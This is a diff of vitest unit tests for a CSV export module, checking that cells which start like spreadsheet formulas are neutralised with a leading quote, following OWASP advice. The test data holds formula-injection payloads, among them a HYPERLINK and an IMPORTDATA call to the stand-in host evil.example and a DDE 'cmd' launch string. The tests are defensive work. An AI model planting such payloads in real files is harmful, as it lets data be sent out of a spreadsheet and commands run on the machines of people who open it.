@@ -1,5 +1,6 @@
 import { describe, expect, it } from 'vitest';
-import { entityRows, FIGURE_COLUMNS, eventRows, figureRows, sourceRows, toCsv, transferRows } from './exports';
+import { parse } from 'csv-parse/sync';
+import { entityRows, FIGURE_COLUMNS, eventRows, figureRows, neutraliseFormula, sourceRows, toCsv, transferRows } from './exports';
 import { event, figure, source, transfer } from '../../../tests/helpers/builders';
 import { buildEntityIndex, selectClaims } from '../compare';
 
@@ -65,6 +66,35 @@ describe('other rows', () => {
 describe('toCsv', () => {
   it('quotes what needs quoting, doubles quotes and writes null as empty', () => {
     expect(toCsv([{ a: 1, b: 'x, "y"', c: null }], ['a', 'b', 'c'])).toBe('\uFEFFa,b,c\r\n1,"x, ""y""",\r\n');
+  });
+  it('neutralises text a spreadsheet would run as a formula, and leaves numbers numbers (OWASP)', () => {
+    const payloads = ['=HYPERLINK("http://evil.example/?"&A1,"x")', '+1+cmd', '-2+3', '@SUM(A1)', '\t=1', '\r=1'];
+    const rows = payloads.map((p, i) => ({ n: -5 + i, text: p, list: [p], flag: false }));
+    const csv = toCsv(rows, ['n', 'text', 'list', 'flag']);
+    // Each neutralised cell is quoted and starts with the single quote; a negative number is bare.
+    expect(csv.split('\r\n')[1]).toBe('-5,"\'=HYPERLINK(""http://evil.example/?""&A1,""x"")","\'=HYPERLINK(""http://evil.example/?""&A1,""x"")",false');
+    const parsed = parse(csv, { bom: true, columns: true, relax_quotes: false }) as Record<string, string>[];
+    expect(parsed).toHaveLength(payloads.length);
+    for (const [i, p] of payloads.entries()) {
+      expect(parsed[i]).toEqual({ n: String(-5 + i), text: `'${p}`, list: `'${p}`, flag: 'false' });
+      expect(parsed[i]!.text).not.toMatch(/^[=+\-@\t\r]/);
+    }
+    // Text that only contains those characters later is written as before.
+    expect(toCsv([{ a: 'a-b = c', b: 'x@y' }], ['a', 'b'])).toBe('\uFEFFa,b\r\na-b = c,x@y\r\n');
+    expect(neutraliseFormula('North Korea')).toBe('North Korea');
+  });
+  it('neutralises a figure row whose article text starts like a formula, and parses back with every column', () => {
+    const hostile = source('h-2025-05-01', {
+      title: '=IMPORTDATA("http://evil.example")', url: 'https://example.org/h',
+      figures: [figure('fig-h', { low: 5, high: 5, quote: '@SUM(1+1)*cmd|\' /C calc\'!A0', attribution: { estimatedBy: '-2+3' } })],
+    });
+    const csv = toCsv(figureRows(selectClaims([hostile], { kind: 'figure' }), ctx), FIGURE_COLUMNS);
+    const [row] = parse(csv, { bom: true, columns: true }) as Record<string, string>[];
+    expect(row).toMatchObject({
+      source_title: '\'=IMPORTDATA("http://evil.example")', quote: '\'@SUM(1+1)*cmd|\' /C calc\'!A0', estimated_by: "'-2+3",
+      low: '5', high: '5', source_id: 'h-2025-05-01', original_url: 'https://example.org/h',
+    });
+    expect(Object.keys(row!)).toEqual([...FIGURE_COLUMNS]);
   });
   it('writes every figure column', () => {
     const csv = toCsv(figureRows(selectClaims(entries, { kind: 'figure' }), ctx), FIGURE_COLUMNS);
